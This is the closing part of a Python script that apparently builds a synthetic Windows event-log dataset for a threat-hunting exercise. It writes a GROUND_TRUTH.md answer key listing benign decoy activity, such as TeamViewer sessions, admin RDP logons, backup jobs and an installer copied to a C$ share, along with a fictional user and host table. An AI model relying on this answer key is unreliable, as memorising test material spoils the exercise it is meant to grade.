    w("- `t.brandt` (IT helpdesk, WS12) starts TeamViewer for support sessions every day "
      "(Sysmon 1 TeamViewer.exe, TeamViewer_Service.exe to port 5938 on the supported "
      "workstation), and RDPs to FS01 / SQL01 with `adm.tbrandt` around noon (4648 from WS12, "
      "4624 LogonType 10, 4672). On day 2 he copies an installer to `\\\\WS04\\C$` (5140/5145).")
    w("- TeamViewer_Service.exe on every workstation connects to TeamViewer's master servers "
      "once a day.")
    w("- `d.okafor` RDPs to WS03 from %s every working day." % HOME_IP_OKAFOR)
    w("- `svc_backup` uses ADMIN$ on DC01 and SQL01 from FS01 every night at 23:30 UTC; "
      "`svc_sql` writes the SQL backup to `\\\\FS01\\Backup$` at 22:00 UTC.")
    w("- Sales and support staff (s.novak, d.okafor, k.yilmaz) query SQL01 through CorpCRM "
      "(Kerberos to MSSQLSvc, 4624 LogonType 3 on SQL01, port 1433).")
    w("- Two Kerberos pre-authentication failures (4771, 0x18 typos) a day on DC01.")
    w("- Day 2: after the copy to `\\\\WS04\\C$`, msiexec installs the service "
      "\"PaperCut Print Deploy Client\" on WS04 (7045).")
    w("- Day 1: OneDrive registers a scheduled task on WS06, WS08, WS10 (4698); scheduled "
      "tasks (GoogleUpdater, Defender signature update, OneDrive updater, taskhostw) run on "
      "every host daily.")
    w("")
    w("## Users")
    w("")
    w("| account | name | department | workstation |")
    w("|---|---|---|---|")
    for a in USERS:
        w("| `%s` | %s | %s | %s (%s) |" % (a.sam, a.full, a.dept, a.ws, a.host.ip))
    for a in (ADM_TBRANDT, SVC_BACKUP, SVC_SQL, SVC_SCAN):
        w("| `%s` | %s | %s | - |" % (a.sam, a.full, a.kind))
    w("")
    w("Servers: DC01 %s, FS01 %s, SQL01 %s; workstations 10.10.20.51-62; scanner MFP-OG1 "
      "10.10.30.15." % (DC01.ip, FS01.ip, SQL01.ip))
    return "\n".join(lines) + "\n"


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "data"))
    args = parser.parse_args()
    generate()
    sizes = write_files(args.out)
    with open(os.path.join(args.out, "GROUND_TRUTH.md"), "w", encoding="utf-8", newline="\n") as f:
        f.write(ground_truth(sizes))
    total = sum(s for _, s in sizes.values())
    for name, (n, size) in sorted(sizes.items()):
        print("%-24s %6d events %9d bytes" % (name, n, size))
    print("%-24s %6d events %9d bytes" % ("total", len(EVENTS), total))


if __name__ == "__main__":
    main()
